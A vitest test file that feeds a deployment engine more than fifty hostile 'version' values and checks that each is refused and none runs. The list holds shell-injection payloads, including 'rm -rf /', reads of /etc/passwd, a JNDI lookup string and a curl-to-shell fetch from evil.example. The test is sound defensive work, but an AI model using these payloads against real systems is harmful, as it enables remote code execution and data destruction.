import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, startHarness } from '../../helpers/engine-harness.ts';
import { engineRunbook } from '../../helpers/engine-runbooks.ts';
import { startTestRedis, type TestRedis } from '../../helpers/redis-server.ts';

/** Values a hostile or careless chat user might send as a version. Each names a canary file it would create. */
const HOSTILE = [
  'v1.0.0; touch CANARY',
  'v1.0.0 && touch CANARY',
  'v1.0.0 || touch CANARY',
  'v1.0.0 | touch CANARY',
  '$(touch CANARY)',
  'v1.0.0$(touch CANARY)',
  '`touch CANARY`',
  'v1.0.0`touch CANARY`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell expansion is the hostile input
  '${IFS}touch${IFS}CANARY',
  'v1.0.0\ntouch CANARY',
  'v1.0.0\rtouch CANARY',
  'v1.0.0\u0000touch CANARY',
  '"; touch CANARY; "',
  "'; touch CANARY; '",
  'v1.0.0 > CANARY',
  'v1.0.0 >> CANARY',
  'v1.0.0 < /etc/passwd',
  '; rm -rf / #',
  '../../../../etc/passwd',
  '--help',
  '-rf',
  'v1.0.0 #comment',
  'v1.0.0&touch CANARY',
  'v1.0.0 & touch CANARY &',
  '$((1+1))',
  '$HOME',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell expansion is the hostile input
  '${PATH}',
  '~root',
  '*',
  '?',
  '[a-z]',
  '{a,b}',
  'v1.0.0\ttouch CANARY',
  'v1.0.0 touch CANARY',
  '\\x41',
  '%00',
  '%0atouch CANARY',
  'v1.0.0%26touch CANARY',
  '<script>alert(1)</script>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal lookup string is the hostile input
  '${jndi:ldap://x/a}',
  '!!',
  '!touch',
  'v1.0.0\u2028touch CANARY',
  'ｖ1.0.0',
  'v1.0.0\u200b',
  '',
  ' ',
  'v'.repeat(5000),
  `v1.0.0${'.0'.repeat(80)}`,
  'v1.0.0 $(curl evil.example | sh)',
  'eval touch CANARY',
  'exec touch CANARY',
];

let redis: TestRedis;
let h: Harness;
beforeAll(async () => {
  redis = await startTestRedis();
  const step = `    - { id: show, title: Show, needs: [go], run: 'printf "%s" "$PREFLIGHT_VERSION" > version.txt' }`;
  // No version pattern in this runbook: only Preflight's own safe alphabet guards it.
  h = await startHarness({
    runbook: engineRunbook(step).replace(/^parameters:.*$/m, ''),
    redisUrl: redis.url,
  });
});
afterAll(async () => {
  await h?.stop();
  await redis.stop();
});

describe('hostile version values', () => {
  it(`has a corpus of ${HOSTILE.length} values`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(50);
  });

  it.each(HOSTILE.map((v) => [JSON.stringify(v).slice(0, 60), v]))(
    'refuses %s with a clear message and runs nothing',
    async (_label, value) => {
      const started = await h.start(value as string);
      expect(started.ok).toBe(false);
      if (started.ok) return;
      expect(started.error.code).toBe('BAD_PARAMETER');
      expect(started.error.message).toMatch(
        /is not a valid version: use letters, digits, "\.", "_", "\+" and "-" \(at most 128\)$/,
      );
      expect(['\n', '\r', '\u0000'].some((c) => started.error.message.includes(c))).toBe(false);
      expect(existsSync(join(h.dir, 'CANARY'))).toBe(false);
    },
  );

  it('passes an accepted value to the script only as an environment variable, verbatim', async () => {
    const started = await h.start('v1.2.3-rc.1+build.7');
    if (!started.ok) throw started.error;
    await h.apply(started.deployment.id, { type: 'gate.approve', gate: 'go', by: 'ben' });
    await h.waitFor(started.deployment.id, (d) => d.state === 'succeeded');
    expect(readFileSync(join(h.dir, 'version.txt'), 'utf8')).toBe('v1.2.3-rc.1+build.7');
  });
});
